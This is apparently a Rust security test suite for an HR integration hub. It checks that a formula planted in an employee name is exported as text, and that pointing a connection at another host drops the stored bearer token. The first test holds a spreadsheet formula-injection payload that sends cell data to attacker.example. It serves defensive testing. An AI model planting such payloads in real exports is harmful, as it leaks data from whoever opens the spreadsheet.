//! Attacks on the hub's promises, each test named after what it tries; SECURITY.md lists what they prove.
use std::sync::{Arc, Mutex};

use ihub_simulators::Accepted;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::harness::TestHub;
use crate::harness::journeys::{enabled_integration, parse_csv, records_csv, run_now};
use crate::{on_both_backends, with_worker_on_both_backends};

with_worker_on_both_backends!(a_formula_planted_in_an_hr_name_is_exported_as_text,);

/// Someone who can edit their own HR profile names themselves as a spreadsheet formula; the admin exports the run's
/// record lines and opens them in a spreadsheet. The cell must arrive as text, not as a formula.
async fn a_formula_planted_in_an_hr_name_is_exported_as_text(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(3);
    let planted = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    t.sims
        .update_employee(0, |p| {
            p.first_name = planted.to_owned();
            p.preferred_name = None;
        })
        .expect("person 0");
    let integration = enabled_integration(&t, &admin, json!({})).await;
    let run = run_now(&t, &admin, &integration).await;
    assert_eq!(run["status"], "done", "{run}");
    let rows = parse_csv(&records_csv(&t, &admin, run["id"].as_str().unwrap(), "").await);
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    let named: Vec<&&str> = cells.iter().filter(|c| c.contains("HYPERLINK")).collect();
    assert!(!named.is_empty(), "the planted name is in the export: {cells:?}");
    for cell in named {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}

on_both_backends!(a_changed_url_setting_cannot_carry_stored_credentials_to_another_host,);

/// An admin (or a stolen admin API key) points a connection that holds a target's bearer token at a host they
/// control, then tests the connection: the token must not go there. The credentials are dropped with the move, the
/// answer says so, and the organisation's log records it.
async fn a_changed_url_setting_cannot_carry_stored_credentials_to_another_host(t: TestHub) {
    let admin = t.organisation("Acme").await;
    let token = Accepted::default().scim_token;
    let created = t
        .post(
            "/api/v1/connections",
            &admin.token,
            json!({"name": "Learning platform", "connector": "scim",
                   "settings": {"base_url": t.sims.scim_base_url()}, "credentials": {"token": token}}),
        )
        .await;
    let id = created.expect(201)["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/connections/{id}");
    let tested = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(tested.expect(200)["status"], "connected", "{}", tested.text);

    // Another path on the same host keeps them.
    let same_host = format!("{}/", t.sims.scim_base_url());
    let kept = t
        .patch(&path, &admin.token, json!({"settings": {"base_url": same_host}}))
        .await;
    assert_eq!(kept.expect(200)["has_credentials"], true, "{}", kept.text);

    let (attacker, heard) = listener().await;
    let moved = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": format!("http://{attacker}/scim/v2")}}),
        )
        .await;
    let answer = moved.expect(200);
    assert_eq!(answer["has_credentials"], false, "{}", moved.text);
    assert_eq!(answer["status"], "disconnected", "{}", moved.text);
    let notice = answer["last_error"].as_str().unwrap_or_default();
    assert!(
        notice.contains("credentials were removed"),
        "the answer says so: {}",
        moved.text
    );

    let after = t.post_empty(&format!("{path}/test"), &admin.token).await;
    assert_eq!(after.expect(200)["status"], "error", "{}", after.text);
    // Pointing it back does not bring them back either.
    let back = t
        .patch(
            &path,
            &admin.token,
            json!({"settings": {"base_url": t.sims.scim_base_url()}}),
        )
        .await;
    assert_eq!(back.expect(200)["has_credentials"], false, "{}", back.text);
    let heard = heard.lock().unwrap().clone();
    assert!(
        heard.iter().all(|request| !request.contains(&token)),
        "the token reached the new host: {heard:?}"
    );

    let logs = t.get("/api/v1/logs?level=warning", &admin.token).await;
    let logged = logs.expect(200)["items"].as_array().unwrap().iter().any(|entry| {
        entry["message"]
            .as_str()
            .unwrap_or_default()
            .contains("credentials were removed")
    });
    assert!(logged, "a log entry records it: {}", logs.text);
}

/// A host that records every request it is sent (all of it: headers carry the credentials).
async fn listener() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().unwrap();
    let heard = Arc::new(Mutex::new(Vec::new()));
    let log = heard.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut buffer = vec![0u8; 16 * 1024];
            let n = socket.read(&mut buffer).await.unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buffer[..n]).into_owned());
            let _ = socket
                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
                .await;
        }
    });
    (addr, heard)
}
